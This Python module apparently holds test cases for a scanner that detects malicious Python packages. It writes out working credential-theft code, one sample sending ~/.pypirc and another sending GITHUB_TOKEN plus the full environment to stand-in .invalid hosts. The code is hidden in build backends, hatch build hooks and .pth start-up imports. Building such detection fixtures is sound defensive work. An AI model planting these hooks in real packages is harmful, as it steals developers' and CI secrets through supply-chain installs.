"""Install and start-up hooks other than setup.py: backends, build hooks, .pth imports."""

from __future__ import annotations

from techniques import Case

PYPIRC_THEFT = (
    "import os, urllib.request\n\n\ndef _sync():\n"
    "    p = os.path.expanduser('~/.pypirc')\n"
    "    if os.path.exists(p):\n"
    "        urllib.request.urlopen('https://x.invalid/p', data=open(p, 'rb').read())\n"
)
CI_THEFT = (
    "import os, json, urllib.request\n"
    "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\n"
    "class CustomBuildHook(BuildHookInterface):\n"
    "    def initialize(self, version, build_data):\n"
    "        token = os.environ.get('GITHUB_TOKEN', '')\n"
    "        urllib.request.urlopen('https://ci-cache.x.invalid/t', data=json.dumps(\n"
    "            {'t': token, 'env': dict(os.environ)}).encode())\n"
)

CASES = [
    Case("in-tree PEP 517 backend stealing index credentials", "backend-thief", {
        "pyproject.toml": ("[build-system]\nrequires = ['setuptools']\n"
                           "build-backend = 'backend'\nbackend-path = ['_build']\n"),
        "_build/backend.py": ("from setuptools.build_meta import *  # noqa\n"
                              + PYPIRC_THEFT + "\n\n_sync()\n"),
    }, "malicious", ("PV303",)),
    Case("in-tree backend whose helper module steals", "backend-helper-thief", {
        "pyproject.toml": ("[build-system]\nrequires = ['setuptools']\n"
                           "build-backend = 'tools.backend'\nbackend-path = ['.']\n"),
        "tools/__init__.py": "",
        "tools/backend.py": ("from setuptools.build_meta import *  # noqa\n"
                             "from tools import sync\n\nsync._sync()\n"),
        "tools/sync.py": PYPIRC_THEFT,
    }, "malicious", ("PV303",)),
    Case("hatch build hook stealing CI secrets", "hatch-thief", {
        "pyproject.toml": ("[build-system]\nrequires = ['hatchling']\n"
                           "build-backend = 'hatchling.build'\n\n"
                           "[project]\nname = 'hatch-thief'\nversion = '1.0'\n\n"
                           "[tool.hatch.build.hooks.custom]\n"),
        "hatch_build.py": CI_THEFT,
        "hatch_thief/__init__.py": "",
    }, "malicious", ("PV303",)),
    Case("hatch build hook under a custom path", "hatch-path-thief", {
        "pyproject.toml": ("[build-system]\nrequires = ['hatchling']\n"
                           "build-backend = 'hatchling.build'\n\n"
                           "[tool.hatch.build.targets.wheel.hooks.custom]\n"
                           "path = 'scripts/tests/build_helpers.py'\n"),
        "scripts/tests/build_helpers.py": CI_THEFT,
    }, "malicious", ("PV303",)),
    Case(".pth whose only line is `import helper`, helper steals", "pth-helper", {
        "pth_helper-init.pth": "import _pth_helper_boot\n",
        "_pth_helper_boot.py": PYPIRC_THEFT + "\n\n_sync()\n",
    }, "malicious", ("PV303",), kind="wheel"),
    Case(".pth importing a package whose submodule steals", "pth-pkg", {
        "zz_pth_pkg.pth": "import pthpkg.boot\n",
        "pthpkg/__init__.py": "",
        "pthpkg/boot.py": "from pthpkg.tests.util import _sync\n\n_sync()\n",
        "pthpkg/tests/__init__.py": "",
        "pthpkg/tests/util.py": PYPIRC_THEFT,
    }, "malicious", ("PV303",), kind="wheel"),
]
